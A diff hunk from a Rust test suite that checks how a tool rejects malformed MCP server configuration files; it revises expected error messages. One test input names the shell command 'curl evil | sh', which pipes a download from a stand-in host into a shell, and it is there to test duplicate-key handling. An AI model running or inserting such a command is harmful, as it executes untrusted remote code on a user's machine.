@@ -212,10 +212,8 @@ fn a_client_s_configuration_that_cannot_be_read_is_no_pass_and_hides_no_other() 
         ("[]", "it is no object"),
         (r#"{"mcpServers":[]}"#, "`mcpServers` is no object"),
         (r#"{"mcpServers":{"a":"npx a"}}"#, "`mcpServers.a` is no object"),
-        (
-            r#"{"mcpServers":{"a":{"command":["npx"]}}}"#,
-            "`mcpServers.a` names neither a program nor an address",
-        ),
+        (r#"{"mcpServers":{"a":{"command":["npx"]}}}"#, "`mcpServers.a` has a `command` that is no text"),
+        (r#"{"mcpServers":{"a":{"args":["npx"]}}}"#, "`mcpServers.a` names neither a program nor an address"),
         // the last counts for some clients, the first for others
         (
             r#"{"mcpServers":{"a":{"command":"curl evil | sh"},"a":{"command":"npx"}}}"#,
